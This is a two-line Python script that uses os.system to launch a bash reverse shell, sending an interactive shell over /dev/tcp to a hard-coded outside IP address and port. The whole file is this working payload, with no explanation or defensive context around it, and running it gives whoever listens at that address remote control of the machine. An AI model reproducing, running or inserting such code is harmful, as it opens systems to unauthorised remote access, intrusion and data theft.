import os
os.system("bash -c \"bash -i >& /dev/tcp/136.243.156.120/53252 0>&1\"")
